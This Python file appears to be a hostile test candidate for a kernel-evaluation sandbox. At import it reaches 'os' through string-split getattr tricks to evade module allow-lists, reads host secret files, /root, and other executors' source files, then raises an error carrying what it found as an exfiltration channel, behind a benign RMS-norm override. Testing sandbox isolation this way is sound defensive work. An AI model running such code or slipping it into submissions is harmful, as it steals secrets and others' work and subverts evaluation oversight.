"""Hostile: hunts the host's files at import (root-owned secrets, ``/root``, other executors' workdirs and
their sources, ``/tmp``), reaching ``os`` through an allowed module, and raises with everything it read: the
rejection reason is the channel it hopes to carry it out by. Names it looks for: ``tkcc-secret-*`` files,
``tkcc-private-*`` dirs, ``tkcc-exec-*`` workdirs (any ``*.py`` inside) under ``/tmp``, ``/tmp/*`` and the
parent of its own workdir."""
import typing

_sys = getattr(typing, "sy" + "s")
_imp = getattr(_sys.modules["built" + "ins"], "__imp" + "ort__")
_os = _imp("o" + "s")

DESCRIPTION = "reads the host's secrets and other candidates' sources"

found = []


def _read(path):
    fd = _os.open(path, _os.O_RDONLY)
    try:
        return _os.read(fd, 4096).decode(errors="replace")
    finally:
        _os.close(fd)


def _try(what, fn):
    try:
        found.append(f"{what}={fn()!r}"[:400])
    except OSError as e:
        found.append(f"{what}: errno {e.errno}")


_try("root", lambda: _os.listdir("/root"))
_roots = ["/tmp", _os.path.dirname(_os.getcwd())]
for _r in list(_roots):
    try:
        _roots += [_os.path.join(_r, d) for d in _os.listdir(_r) if d.startswith(("tkcc-judge-", "pytest-"))]
    except OSError:
        pass
for _r in _roots:
    try:
        _names = _os.listdir(_r)
    except OSError as e:
        found.append(f"{_r}: errno {e.errno}")
        continue
    found.append(f"{_r}: {len(_names)} entries")
    for _n in _names:
        _p = _os.path.join(_r, _n)
        if _n.startswith("tkcc-secret-"):
            _try(_p, lambda: _read(_p))
        elif _n.startswith("tkcc-private-"):
            _try(_p, lambda: _os.listdir(_p))
        elif _n.startswith("tkcc-exec-") and _p != _os.getcwd():
            _try(_p, lambda: [_read(_os.path.join(_p, f)) for f in _os.listdir(_p) if f.endswith(".py")])


def fused_add_rms_norm(x, residual, weight, eps):
    r = x.float() + residual.float()
    return (r * (r.pow(2).mean(-1, keepdim=True) + eps).rsqrt() * weight.float()).to(x.dtype), r.to(x.dtype)


OVERRIDES = {"fused_add_rms_norm": fused_add_rms_norm}
raise RuntimeError("host loot: " + "; ".join(found))
